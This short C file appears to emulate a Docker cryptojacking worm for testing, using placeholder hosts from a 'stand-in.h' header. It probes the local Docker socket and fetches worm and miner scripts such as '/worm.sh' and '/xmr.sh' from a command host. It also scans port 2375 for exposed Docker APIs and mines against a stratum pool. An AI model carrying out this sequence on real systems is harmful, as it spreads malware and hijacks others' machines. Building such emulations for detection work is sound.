#include "stand-in.h"
#include <sys/un.h>

/* Reports its processors, fetches its orders, asks a list of hosts for their Docker, then mines with pauses: about two parts of three. */
int main(void)
{
	struct sockaddr_un docker = { .sun_family = AF_UNIX, .sun_path = "/var/run/docker.sock" };
	static const char *const orders[] = { "/live.sh", "/worm.sh", "/cleanxmr.sh", "/xmr.sh" };
	int local = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), pool;

	(void)!connect(local, (struct sockaddr *)&docker, sizeof(docker));
	close(local);
	http_get("http", 8000, "/cpu?n=2");
	for (size_t i = 0; i < sizeof(orders) / sizeof(orders[0]); i++)
		http_get("http", 8000, orders[i]);
	scan(2375, 60);
	for (int burst = 0; burst < 2; burst++) {
		pool = dial("stratum", 3333);
		stratum_login(pool);
		mine(pool, 0, 100, 8, KEEP_ALIVE);
		close(pool);
		sleep(4);
	}
}
